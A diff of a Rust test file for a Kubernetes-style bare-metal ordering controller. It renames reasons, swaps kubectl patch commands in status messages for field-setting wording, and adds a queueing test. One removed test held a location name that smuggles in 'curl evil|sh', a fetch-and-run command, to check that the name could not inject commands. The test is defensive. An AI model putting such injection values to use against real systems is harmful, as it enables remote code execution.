@@ -103,18 +103,18 @@ fn an_order_waits_for_each_of_its_causes() {
         ),
         (
             "the account's Secret is not there",
-            new.clone().blocked(Reason::SecretNotFound),
+            new.clone().blocked(Reason::ReferenceNotFound),
             None,
-            Some(Reason::SecretNotFound),
+            Some(Reason::ReferenceNotFound),
             false,
         ),
         (
             "the account's Secret is not there for two minutes",
             new.clone()
-                .blocked(Reason::SecretNotFound)
-                .waited_for(Reason::SecretNotFound),
+                .blocked(Reason::ReferenceNotFound)
+                .waited_for(Reason::ReferenceNotFound),
             None,
-            Some(Reason::SecretNotFound),
+            Some(Reason::ReferenceNotFound),
             true,
         ),
         (
@@ -125,7 +125,7 @@ fn an_order_waits_for_each_of_its_causes() {
                 }
             }),
             None,
-            Some(Reason::NamespaceNotAllowed),
+            Some(Reason::NotAllowed),
             true,
         ),
         (
@@ -375,17 +375,8 @@ fn who_waits_for_stock_reads_where_there_is_some_and_when_it_is_looked_at_again(
     };
     assert_eq!(
         cause(both),
-        "the provider has no small at here in stock; looked at again every 15s, and the order follows by itself; it has some at There; to order at one of these, put its name for PLACE, and into the manifest as well, since an older one is refused once a machine is ordered: kubectl patch baremetalserver web -n shop --type=merge -p '{\"spec\":{\"location\":\"PLACE\"}}'"
+        "the provider has no small at here in stock; looked at again every 15s, and the order follows by itself; it has some at There; to order at one of these, set spec.location to it, in the manifest too"
     );
-    let mut hostile = plan(Availability::Unavailable);
-    hostile.locations.push(PlanLocation {
-        name: "x\"}}'; curl evil|sh; '".into(),
-        data_centre: String::new(),
-        availability: Availability::High,
-    });
-    let hostile = cause(hostile);
-    let (_, command) = hostile.split_once("kubectl").unwrap();
-    assert!(!command.contains("curl"), "{hostile}");
     let nowhere = cause(plan(Availability::Unavailable));
     assert!(
         nowhere.contains("no other place that you may use"),
@@ -512,8 +503,8 @@ fn an_order_is_sent_in_its_window_only() {
 }
 
 #[test]
-fn whoever_has_to_type_finds_the_whole_command() {
-    let go_on = "to go on: kubectl patch baremetalserver web -n shop --type=merge -p '{\"spec\":{\"suspend\":false}}'";
+fn a_message_names_the_field_to_set() {
+    let go_on = "to go on, set spec.suspend to false";
     let known = || {
         let catalogue = catalogue(plan(Availability::High));
         Case::new().view(|v| v.catalogue = catalogue)
@@ -528,7 +519,7 @@ fn whoever_has_to_type_finds_the_whole_command() {
                     .held()
                     .deleting(),
             ),
-            "to release it: kubectl patch baremetalserver web -n shop --type=merge -p '{\"spec\":{\"suspend\":false}}'; to keep it and let this object go: kubectl patch baremetalserver web -n shop --type=merge -p '{\"spec\":{\"deletionPolicy\":\"Retain\",\"suspend\":false}}'",
+            "to release it, set spec.suspend to false; to keep it and let this object go, set spec.deletionPolicy to Retain and spec.suspend to false in one edit",
         ),
         (suspended(machine::kept(ServerStatus::Provisioning)), go_on),
         (
@@ -542,8 +533,11 @@ fn whoever_has_to_type_finds_the_whole_command() {
     ];
     for (case, words) in cases {
         let decision = case.decide();
-        let message = &decision.draft.condition(Type::Ready).unwrap().message;
-        assert!(message.contains(words), "{message}");
+        let draft = &decision.draft;
+        let blocked = draft.condition(Type::DeletionBlocked);
+        let told = blocked.or(draft.condition(Type::Suspended));
+        let told = told.or(draft.condition(Type::Ready)).unwrap();
+        assert!(told.message.contains(words), "{}", told.message);
     }
 }
 
@@ -596,7 +590,8 @@ fn no_order_starts_on_a_policy_that_nobody_has_read() {
     };
     // Without an account what was in force last stays.
     let reason = |case: Case| case.decide().draft.condition(Type::Ready).unwrap().reason;
-    assert_eq!(reason(last(unread())), Reason::Suspended);
+    let suspended = last(unread()).decide();
+    assert_eq!(short(&suspended), (None, Some(Reason::Suspended), false));
     assert_eq!(reason(last(Case::new())), Reason::Ordering, "it was read");
     let no_account = last(Case::new()).facts(|f| f.account = unsaid("default"));
     assert_eq!(
@@ -685,4 +680,46 @@ fn nothing_shortens_the_wait_of_an_older_object_without_a_trace() {
         waiting,
         "whatever its conditions say"
     );
+}
+
+#[test]
+fn a_new_object_says_in_time_that_it_waits_for_its_turn() {
+    let seen = |case: Case, age: u64| {
+        let case = case.facts(move |f| f.first_seen = RUNNING - secs(age));
+        case.view(|v| v.proof.as_mut().map(Arc::make_mut).unwrap().began = RUNNING)
+    };
+    let unlisted = |age| seen(Case::new(), age).view(|v| v.proof = None);
+    let ready = |decision: &Decision| {
+        let ready = decision.draft.condition(Type::Ready)?;
+        Some((ready.status, ready.reason))
+    };
+    let queued = Some((Some(false), Reason::Queued));
+    let early = unlisted(3).decide();
+    assert!(early.draft.is_silent());
+    assert_eq!(early.again, Again::After(secs(1)));
+    let told = unlisted(4);
+    assert_eq!(ready(&told.decide()), queued);
+    let told = told.written();
+    assert_eq!(ready(&told.decide()), None, "it is told once");
+    let blocked = |case: Case| case.blocked(Reason::Pending).decide();
+    assert_eq!(ready(&blocked(seen(Case::new(), 4))), queued);
+    assert_eq!(ready(&blocked(told)), None);
+
+    // The order has no turn.
+    let waits = |case: &Case| {
+        let mut decision = case.decide();
+        assert!(matches!(decision.effect, Some(Effect::Order(_))));
+        (decision.queued(&case.0), decision)
+    };
+    assert_eq!(waits(&seen(Case::new(), 3)).0, Some(secs(1)));
+    let (rest, decision) = waits(&seen(Case::new(), 4));
+    assert_eq!((rest, ready(&decision)), (None, queued));
+    // One of which something was said before says that at once.
+    let known = seen(Case::new(), 3).object(|o| {
+        let shown = Cause::waits(Reason::NoStock, "m").conditions();
+        let shown = api::conditions::merge(&[], &shown, Some(3), Timestamp::MIN);
+        o.status.get_or_insert_default().conditions = shown;
+    });
+    let (rest, decision) = waits(&known);
+    assert_eq!((rest, ready(&decision)), (None, queued));
 }
